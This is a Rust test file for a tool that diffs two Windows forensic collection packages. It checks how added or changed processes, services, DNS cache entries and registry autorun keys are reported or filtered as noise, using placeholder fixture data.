    let mut other = base.clone();
    add(&mut other, 90_003, "4");
    let comparison = compared(&one, &other);
    let change = with(&comparison, "processes", "cmd.exe");
    assert_eq!((change.change, change.noise), ("changed", None));
    assert_eq!(change.columns, "process_id, parent_process_id, parent");
    assert!(change.before.as_deref().unwrap().contains("parent=powershell.exe"), "{change:#?}");

    // One of two stays, and the other has a parent of another name.
    let (mut two, mut turned) = (one.clone(), one.clone());
    add(&mut two, 90_002, &shell);
    add(&mut turned, 90_003, "4");
    assert_eq!(with(&compared(&two, &turned), "processes", "cmd.exe").noise, None);
    // One that has a parent of the same name is what the comparison says that it does not tell.
    let mut again = one.clone();
    add(&mut again, 90_003, &shell);
    let comparison = compared(&two, &again);
    assert_eq!(comparison.changes.len(), 0);
    let is_said =
        |own: &mde_forensics_package::NotCompared| own.why.contains("`processes`: of several");
    assert!(comparison.not_compared.iter().any(is_said));
}

#[test]
fn processes_that_run_anew_as_the_device_does_are_noise_where_their_parents_are_the_same() {
    let (before, after) = pair();
    let comparison = compared(&before, &after);
    let changed = comparison.changes.iter().filter(|own| own.table == "processes");
    let (noise, shown): (Vec<_>, Vec<_>) = changed.partition(|own| own.noise.is_some());
    assert!(noise.iter().any(|own| own.key.starts_with("services.exe")), "{noise:#?}");
    let is_parentless = |own: &&Change| {
        own.change != "changed"
            || own.columns.contains("instances")
            || !own.after.as_deref().unwrap_or_default().contains("parent=")
    };
    assert!(shown.iter().all(is_parentless), "{shown:#?}");
    assert!(shown.len() < 10, "{shown:#?}");
}

#[test]
fn rows_of_which_nothing_could_be_read_are_told_apart_by_their_text() {
    let (base, _) = pair();
    let with_line = |name: &str| {
        let mut members = base.clone();
        edit(&mut members, SERVICES, |text| {
            format!("{}\r\n\"Bad {name}\",\"x\",\"y\",broken\r\n", text.trim_end())
        });
        members
    };
    let (one, other) = (with_line("one"), with_line("evil"));
    let comparison = compared(&one, &other);
    let change = with(&comparison, "services", "Bad evil");
    assert_eq!((change.change, change.noise, comparison.differences), ("added", None, 2));
    for side in ["before", "after"] {
        let is_told = |own: &&mde_forensics_package::NotCompared| {
            own.side == side && own.why.contains("`services`: 1 row could be read in part only")
        };
        assert_eq!(comparison.not_compared.iter().filter(is_told).count(), 1);
    }
    assert!(comparison.needs_a_look());
    // The same text in both is the same row.
    let same = compared(&one, &one);
    assert!(same.changes.is_empty() && !same.needs_a_look(), "{:#?}", same.not_compared);

    let absent = |names: &[&str]| {
        let mut members = base.clone();
        let rule = "-".repeat(40);
        for name in names {
            edit(&mut members, DNS, |text| {
                let text = text.trim_end();
                format!(
                    "{text}\r\n\r\n    {name}\r\n    {rule}\r\n    Name does not exist.\r\n\r\n"
                )
            });
        }
        members
    };
    let comparison =
        compared(&absent(&["old.example"]), &absent(&["old.example", "dga-evil-c2.example"]));
    let change = with(&comparison, "dns_cache", "dga-evil-c2.example");
    assert_eq!((change.change, comparison.changes.len()), ("added", 1));
}

#[test]
fn packages_of_two_devices_need_a_look() {
    let (before, _) = pair();
    let other: Members = before
        .iter()
        .map(|(name, bytes)| {
            let text = String::from_utf8_lossy(bytes).replace("WS-042", "WS-043");
            let is_text = std::str::from_utf8(bytes).is_ok();
            (name.clone(), if is_text { text.into_bytes() } else { bytes.clone() })
        })
        .collect();
    let comparison = compared(&before, &other);
    assert_eq!((comparison.is_same_device, comparison.needs_a_look()), (Some(false), true));
    assert!(!compared(&before, &before).needs_a_look());
}

#[test]
fn a_key_without_values_that_appears_is_told_and_one_with_values_by_these() {
    let (_, before) = pair();
    let class = "{DEADBEEF-0000-4000-8000-00000000000A}";
    let root = r"HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run";
    let mut more = before.clone();
    let keys = [
        format!(
            r"HKEY_LOCAL_MACHINE\Software\Classes\Directory\ShellEx\ContextMenuHandlers\{class}"
        ),
        format!(r"{root}\Empty"),
        format!("{root}\\Full\r\n    a    REG_SZ    b.exe"),
    ];
    edit(&mut more, AUTORUNS, |text| {
        format!("{}\r\n\r\n{}\r\n\r\n", text.trim_end(), keys.join("\r\n\r\n"))
    });
    for (one, other, change) in [(&before, &more, "added"), (&more, &before, "removed")] {
        let comparison = compared(one, other);
        assert_eq!(with(&comparison, "registry_keys", class).change, change);
        assert_eq!(with(&comparison, "registry_keys", "Empty").change, change);
        assert_eq!(with(&comparison, "autoruns", class).change, change);
        assert_eq!(with(&comparison, "registry_values", "Full").change, change);
        assert_eq!(comparison.changes.len(), 5, "{:#?}", comparison.changes);
        assert_eq!(comparison.noise, 0);
    }
}

#[test]
fn the_keys_of_services_that_windows_makes_for_a_session_are_noise() {
    for (before, after) in [pair()].into_iter().chain(sample_files().map(|own| (own.clone(), own)))
    {
        let comparison = compared(&before, &after);
        let keys = comparison.changes.iter().filter(|own| own.table == "registry_keys");
        assert!(keys.clone().all(|own| own.noise.is_some()), "{:#?}", keys.collect::<Vec<_>>());
    }
}
